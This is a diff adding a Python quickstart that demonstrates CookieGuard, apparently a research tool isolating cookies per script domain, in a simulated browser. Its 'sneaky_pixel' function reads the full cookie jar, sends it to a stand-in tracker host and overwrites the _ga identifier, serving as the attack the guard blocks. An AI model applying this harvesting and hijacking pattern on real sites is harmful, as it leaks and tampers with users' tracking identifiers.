@@ -1,0 +1,69 @@
+#!/usr/bin/env python3
+"""Quickstart: watch a third-party script raid the first-party cookie jar,
+then watch CookieGuard stop it.
+
+Run:  python examples/quickstart.py
+"""
+
+from repro import (
+    Browser,
+    CookieGuardExtension,
+    InstrumentationExtension,
+    Script,
+)
+
+
+def analytics_tag(js):
+    """A gtag.js-style script: sets _ga, phones home."""
+    js.set_cookie("_ga=GA1.1.444332364.1746838827; "
+                  f"Domain={js.site_domain}; Path=/; Max-Age=63072000")
+    js.load_image("https://www.google-analytics.com/collect",
+                  params={"cid": "444332364"})
+
+
+def sneaky_pixel(js):
+    """A conversion pixel that harvests identifiers it never set."""
+    jar = js.get_cookie()
+    print(f"    pixel sees the jar as: {jar!r}")
+    js.load_image("https://px.ads.tracker.example/attribution",
+                  params={"payload": jar.replace("; ", "*")})
+    # ... and tries to take over the _ga identifier:
+    js.set_cookie(f"_ga=HIJACKED.BY.PIXEL; Domain={js.site_domain}; Path=/")
+
+
+def visit(with_guard: bool):
+    browser = Browser()
+    guard = None
+    if with_guard:
+        guard = CookieGuardExtension()
+        browser.install(guard)
+    instrumentation = InstrumentationExtension()
+    browser.install(instrumentation)
+
+    page = browser.visit("https://shop.example.com/", scripts=[
+        Script.external("https://www.googletagmanager.com/gtag.js",
+                        behavior=analytics_tag, label="gtag"),
+        Script.external("https://px.ads.tracker.example/pixel.js",
+                        behavior=sneaky_pixel, label="pixel"),
+    ])
+
+    ga = page.jar.find("_ga")[0]
+    print(f"    _ga after the visit: {ga.value!r}")
+    exfil = [r for r in page.network.requests
+             if "tracker.example" in r.url.host and "444332364" in r.url.query]
+    print(f"    identifier exfiltrated: {'YES' if exfil else 'no'}")
+    if guard is not None:
+        print(f"    guard blocked writes: {guard.blocked_writes}, "
+              f"filtered reads: {guard.filtered_cookie_reads}")
+
+
+def main():
+    print("1) Regular browser — no isolation in the main frame:")
+    visit(with_guard=False)
+    print()
+    print("2) Same page with CookieGuard — per-script-domain isolation:")
+    visit(with_guard=True)
+
+
+if __name__ == "__main__":
+    main()
